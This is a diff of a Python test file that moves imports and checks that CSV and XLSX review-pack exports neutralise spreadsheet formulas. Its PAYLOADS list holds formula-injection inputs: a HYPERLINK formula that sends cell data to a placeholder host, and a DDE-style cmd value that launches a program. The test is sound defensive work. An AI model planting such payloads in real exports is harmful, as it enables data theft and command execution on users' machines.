@@ -8,8 +8,8 @@ import pytest
 
 from core.access.exports import export_csv, export_xlsx, neutralise_cell, neutralise_formulas
 from core.metrics.scorecard import format_scorecard
-from core.views import review
-from core.views.executive import csv_export
+from core.views import review, review_log
+from core.views.format import csv_export
 from core.views.review import review_pack
 
 PAYLOADS = ['=HYPERLINK("http://host/?"&A1,"x")', "+SUM(A1:A9)", "-2+3+cmd|' /C calc'!A0", "@SUM(A1)", "\t=1+1", "\r=1+1"]
@@ -49,7 +49,7 @@ def test_every_export_goes_through_the_neutraliser(sample_engine):
     month = months_available(sample_engine)[-1]
     data = review.review_data(sample_engine, "TM04", "complex", month, ("TM04",), True)
     log = pd.DataFrame([{"entry_id": 1, "month": month, "kind": "note", "text": PAYLOADS[0], "owner": "@owner",
-                         "due_date": None, "status": "", "created_by": "x", "created_at": None}]).reindex(columns=review.LOG_COLUMNS)  # fmt: skip
+                         "due_date": None, "status": "", "created_by": "x", "created_at": None}]).reindex(columns=review_log.LOG_COLUMNS)  # fmt: skip
     pack = review_pack(data, log, {"complex": "Complex"}, "=Team", charts=False)
     assert "'" + PAYLOADS[0].replace('"', '""') in pack["csv"]["review_log"]
     sheet = openpyxl.load_workbook(io.BytesIO(pack["xlsx"]))["review_log"]
